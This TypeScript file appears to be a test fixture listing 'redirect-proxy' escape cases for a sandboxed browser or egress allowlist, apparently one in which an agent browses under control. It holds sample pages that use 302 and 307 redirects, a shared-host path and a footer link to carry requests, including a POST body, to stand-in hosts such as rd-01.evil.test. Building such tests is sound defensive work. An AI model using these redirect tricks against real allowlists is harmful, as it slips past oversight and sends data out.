import { reached } from '../run/evidence.ts'
import type { EscapeCase } from './escape-case.ts'
import { attempts, script } from './page-script.ts'

const category = 'redirect-proxy'

export const redirectProxyCases: readonly EscapeCase[] = [
  {
    id: 'RD-01',
    category,
    attack: 'an approved site that sends anywhere',
    page: `<img src="/atk/rd-01/out"><iframe src="/atk/rd-01/out"></iframe>
      ${attempts(`await fetch('/atk/rd-01/out', { mode: 'no-cors' })`)}`,
    parts: { out: { status: 302, headers: { location: 'https://rd-01.evil.test/x' } } },
  },
  {
    id: 'RD-03',
    category,
    attack: 'a granted write that is sent on, 307',
    page: script(`await fetch('/search', { method: 'POST', mode: 'no-cors', body: new URLSearchParams('q=rd-03') })`),
    search: { status: 307, headers: { location: 'https://rd-03.evil.test/x' } },
  },
  {
    id: 'RD-05',
    category,
    attack: 'another folder of a shared host',
    page: script(`location = 'https://d111.cloudfront.net/other-bucket/rd-05.html'`),
    alone: true,
    fired: evidence => reached(evidence, /^GET \/other-bucket\//),
  },
  {
    id: 'RD-07',
    category,
    attack: 'link at the foot of an approved page',
    page: '<footer><a href="https://rd-07.evil.test/search">About the company</a></footer>',
    act: terminal => terminal.click('a'),
  },
]
